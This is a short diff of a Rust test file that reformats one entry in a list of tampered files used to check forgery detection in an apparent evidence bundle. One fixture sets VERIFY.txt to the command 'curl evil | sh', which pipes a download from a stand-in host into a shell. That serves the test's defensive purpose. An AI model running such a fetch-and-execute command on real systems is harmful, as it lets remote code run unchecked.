@@ -686,7 +686,10 @@ fn a_period_cannot_leave_out_what_its_lines_show() {
     let whole = files_of(&path);
     assert_eq!(forged(&company, whole.clone()), Vec::<String>::new());
     for (page, words) in [
-        ("data/00-COVER.html", "<p>NOT PROVEN: nothing</p><script></script>"),
+        (
+            "data/00-COVER.html",
+            "<p>NOT PROVEN: nothing</p><script></script>",
+        ),
         ("data/00-COVER.txt", "NOT PROVEN: nothing"),
         ("VERIFY.txt", "curl evil | sh"),
         ("bag-info.txt", "Dsr-Keep-Until: 1999-01-01"),
